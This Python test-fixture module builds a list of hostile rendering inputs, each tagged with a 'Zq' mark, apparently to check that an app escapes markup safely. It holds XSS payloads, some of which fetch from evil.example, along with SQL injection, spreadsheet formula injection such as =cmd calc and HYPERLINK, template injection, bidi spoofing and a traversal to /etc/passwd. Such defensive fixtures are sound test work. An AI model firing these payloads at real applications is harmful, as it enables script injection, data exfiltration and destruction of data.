"""Texts that are markup, code, a formula or a command somewhere; each holds a mark by which it is found again."""

from __future__ import annotations

import re

MARK = re.compile(r"Zq[0-9]{2}")
EVIL = "evil.example"

_TEXTS = (
    "<script>window.struck=1;fetch('https://evil.example/{mark}')</script>",
    "<img src=https://evil.example/{mark}.png onerror=window.struck=1>{mark}",
    "<b onmouseover=window.struck=1 style='position:fixed;inset:0'>{mark}</b>",
    "<svg/onload=window.struck=1><text>{mark}</text></svg>",
    '"><iframe src=//evil.example/{mark}></iframe>',
    "' autofocus onfocus=window.struck=1 x='{mark}",
    "<style>body{{background:url(https://evil.example/{mark})}}</style>",
    '<a href="javascript:window.struck=1">{mark}</a><br>',
    "![{mark}](https://evil.example/{mark}.png)",
    "[{mark}](https://evil.example/{mark})",
    "[{mark}](javascript:window.struck=1)",
    "<https://evil.example/{mark}> www.evil.example/{mark} {mark}@evil.example",
    ":material/check_circle: {mark} :smile: :streamlit:",
    ":red-badge[{mark}] :green-badge[:material/verified: {mark}]",
    ":red[{mark}] :blue-background[{mark}] :small[{mark}] :rainbow[{mark}]",
    "$\\sqrt{{{mark}}}$ и $$x^{{{mark}}}$$",
    "**{mark}** __{mark}__ *{mark}* ~~{mark}~~ ***",
    "`{mark}` ``` {mark} ```",
    "# {mark} ## {mark}",
    "> {mark} - [x] {mark} * * *",
    "| {mark} | --- | {mark} |",
    "{mark}[^1] [^1]: {mark}",
    "{mark} -> a <- b -- c >= d <= e ~= f <-> g",
    "{{{{7*7}}}} {{mark}} {{0}} {{name}} {{{mark}}} ${{7*7}} <%= 7*7 %> {mark}",
    "%s %d %n %(mark)s %00 100% {mark}",
    "'; DROP TABLE application; -- {mark} ' OR '1'='1",
    "=cmd|'/c calc'!A1 {mark}",
    '+1+HYPERLINK("https://evil.example/{mark}","{mark}")',
    "@SUM(1+1) {mark}",
    "-2+3 {mark}",
    "\u202egnp.{mark}\u202c \u2066{mark}\u2069 \u200f",
    "ad\u200bmin\u200d \ufeff{mark}\u2060 \u00ad",
    "Длинное" * 24 + "{mark}",
    "👩‍⚕️🏳️‍🌈1️⃣ {mark} ⁉️",
    "␀ \\0 \\x00 \\u0000 %00 \ufffd {mark}",
    "\\x1b[31m{mark}\\x1b[0m \\r\\n",
    "]]> {mark} <![CDATA[ <?xml?> <!-- {mark} -->",
    "&lt;{mark}&gt; &amp;amp; &#60;b&#62; &nbsp; &copy;",
    "Z̷̧̛a̸͝l͏ǵo {mark} ﷽ ̈",
    "\\ \\\\ \\n \\{mark}\\ /..\\../etc/passwd",
    "ａｂｃ ‹{mark}› «» “” І і А́ ё й \u0438\u0306",
    "{mark}:\u00a0a\u2003b \u2028c",
)
STRINGS = tuple(text.format(mark=f"Zq{number:02}") for number, text in enumerate(_TEXTS))


def mark_of(text: str) -> str:
    return MARK.search(text).group()


def on_one_line(text: str) -> str:
    """As white space is drawn: a run of it is one space."""
    return " ".join(text.split())
